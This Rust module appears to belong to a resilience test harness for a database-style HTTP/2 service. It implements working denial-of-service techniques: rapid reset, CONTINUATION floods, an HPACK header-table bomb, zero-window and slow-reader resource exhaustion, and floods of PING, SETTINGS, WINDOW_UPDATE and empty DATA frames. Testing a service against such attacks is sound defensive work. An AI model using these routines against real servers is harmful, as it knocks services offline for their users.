//! Abuse of HTTP/2: windows that never open, streams that are taken back, frames that cost more than they seem to.

use std::time::Duration;

use anyhow::Result;

use super::attacker::{Attack, Attacker, Beside, Request};
use super::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW_SIZE, PING,
    RST_STREAM, WINDOW_UPDATE, block, connect, frame, settings, signed,
};
use super::protocol::large_items;

const QUERY: &[u8] = br#"{"query":"SELECT * FROM c","parameters":[]}"#;

pub const ATTACKS: &[Attack] = &[
    Attack::beside(
        "h2-unread-answers",
        "250 pages of 4 MB on each of six connections, windows closed",
        Beside::new(6, unread).prepared(large_items),
    )
    .lasting(5, 40),
    Attack::beside(
        "h2-slow-readers",
        "pages read a byte at a time",
        Beside::new(6, slow_reader).prepared(large_items),
    )
    .lasting(0, 30),
    Attack::beside("h2-rapid-reset", "streams opened and reset at once", Beside::new(4, rapid_reset)),
    Attack::beside(
        "h2-pings",
        "pings without an end, answers unread",
        Beside::new(4, |attacker| flood(attacker, PING)),
    ),
    Attack::beside(
        "h2-settings",
        "settings that change all the time",
        Beside::new(4, |attacker| flood(attacker, 4)),
    )
    .lasting(0, 15),
    Attack::beside(
        "h2-windows",
        "window updates for streams that are not there",
        Beside::new(4, |attacker| flood(attacker, WINDOW_UPDATE)),
    )
    .lasting(0, 15),
    Attack::beside("h2-continuations", "a head that goes on for ever", Beside::new(4, continuations)),
    Attack::beside("h2-empty-data", "bodies of empty frames", Beside::new(4, empty_data)).lasting(0, 15),
    Attack::beside("h2-header-tables", "headers that refer to a full table", Beside::new(4, header_tables))
        .lasting(0, 15),
    Attack::beside("h2-many-streams", "heads whose bodies never come", Beside::new(6, many_streams)),
    Attack::beside("h2-garbage", "frames that make no sense", Beside::new(4, garbage)).lasting(0, 15),
];

/// The stream of the n-th request of a client.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn page(attacker: &Attacker) -> Vec<u8> {
    let request = Request::query("dbs/attack/colls/large");
    signed(attacker, "POST", &request.path, &request.link, "docs", &request.headers)
}

pub fn unread(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[(INITIAL_WINDOW_SIZE, 0)])?;
    let head = page(attacker);
    for number in 0..250 {
        wire.send(&frame(HEADERS, END_HEADERS, stream(number), &head))?;
        wire.send(&frame(DATA, END_STREAM, stream(number), QUERY))?;
    }
    while !attacker.over() {
        // Frames that are no data are read, so that what stays is what the windows hold back.
        if !wire.drain() {
            attacker.tally.count("connection ended");
            attacker.pause(Duration::from_millis(100));
            return Ok(());
        }
        attacker.pause(Duration::from_millis(50));
    }
    Ok(())
}

fn slow_reader(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[(INITIAL_WINDOW_SIZE, 0)])?;
    let head = page(attacker);
    for number in 0..20 {
        wire.send(&frame(HEADERS, END_HEADERS, stream(number), &head))?;
        wire.send(&frame(DATA, END_STREAM, stream(number), QUERY))?;
    }
    while !attacker.over() {
        for number in 0..20 {
            wire.send(&frame(WINDOW_UPDATE, 0, stream(number), &1u32.to_be_bytes()))?;
        }
        if !wire.drain() {
            attacker.tally.count("connection ended");
            return Ok(());
        }
        attacker.pause(Duration::from_millis(100));
    }
    Ok(())
}

fn rapid_reset(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let head = signed(attacker, "GET", "dbs", "", "dbs", &[]);
    for number in 0..20_000 {
        let mut frames = frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &head);
        frames.extend(frame(RST_STREAM, 0, stream(number), &8u32.to_be_bytes()));
        wire.send(&frames)?;
        if attacker.over() || (number % 100 == 0 && !wire.drain()) {
            break;
        }
    }
    attacker.tally.count("connection ended");
    Ok(())
}

/// One kind of frame, thousands of times, with nobody reading what comes back.
fn flood(attacker: &mut Attacker, kind: u8) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let frames: Vec<u8> = (0..1000)
        .flat_map(|number| match kind {
            PING => frame(PING, 0, 0, &[7; 8]),
            WINDOW_UPDATE => frame(WINDOW_UPDATE, 0, stream(number), &1u32.to_be_bytes()),
            _ => settings(&[(INITIAL_WINDOW_SIZE, number), (HEADER_TABLE_SIZE, number)]),
        })
        .collect();
    while !attacker.over() {
        if wire.send(&frames).is_err() {
            attacker.tally.count("connection ended");
            attacker.pause(Duration::from_millis(10));
            break;
        }
    }
    Ok(())
}

fn continuations(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let head = signed(attacker, "GET", "dbs", "", "dbs", &[]);
    wire.send(&frame(HEADERS, END_STREAM, 1, &head))?;
    let more = block(&[("x-filler", &"f".repeat(10_000))]);
    for _ in 0..5_000 {
        if attacker.over() || wire.send(&frame(CONTINUATION, 0, 1, &more)).is_err() {
            break;
        }
    }
    attacker.tally.count("connection ended");
    Ok(())
}

fn empty_data(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let request = Request::upsert("dbs/attack/colls/items");
    let head = signed(attacker, "POST", &request.path, &request.link, "docs", &request.headers);
    wire.send(&frame(HEADERS, END_HEADERS, 1, &head))?;
    let empty = frame(DATA, 0, 1, &[]).repeat(1000);
    while !attacker.over() && wire.send(&empty).is_ok() {}
    attacker.tally.count("connection ended");
    Ok(())
}

/// One large entry of the table, and heads of references to it: a byte stands for 4,000.
fn header_tables(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let mut first = signed(attacker, "GET", "dbs", "", "dbs", &[]);
    let mut entry = block(&[("x-bomb", &"b".repeat(3_900))]);
    entry[0] = 0x40;
    first.extend(entry);
    wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first))?;
    let mut bomb = signed(attacker, "GET", "dbs", "", "dbs", &[]);
    bomb.extend([0x80 | 62; 8_000]);
    for number in 1..200 {
        if attacker.over()
            || wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &bomb)).is_err()
        {
            break;
        }
    }
    wire.drain();
    attacker.tally.count("connection ended");
    Ok(())
}

fn many_streams(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    let request = Request::upsert("dbs/attack/colls/items");
    let mut headers = request.headers.clone();
    headers.push(("content-length", "1000000"));
    let head = signed(attacker, "POST", &request.path, &request.link, "docs", &headers);
    for number in 0..5_000 {
        let mut frames = frame(HEADERS, END_HEADERS, stream(number), &head);
        frames.extend(frame(DATA, 0, stream(number), b"{"));
        wire.send(&frames)?;
        if attacker.over() || (number % 100 == 0 && !wire.drain()) {
            break;
        }
    }
    attacker.pause(Duration::from_secs(2));
    attacker.tally.count("connection ended");
    Ok(())
}

fn garbage(attacker: &mut Attacker) -> Result<()> {
    let mut wire = connect(attacker, &[])?;
    for _ in 0..100 {
        let payload: Vec<u8> =
            (0..attacker.random.below(100)).map(|_| attacker.random.next_u64() as u8).collect();
        let (kind, flags) = (attacker.random.below(12) as u8, attacker.random.next_u64() as u8);
        let number = attacker.random.below(10) as u32;
        if wire.send(&frame(kind, flags, number, &payload)).is_err() || !wire.drain() {
            break;
        }
    }
    attacker.tally.count("connection ended");
    Ok(())
}
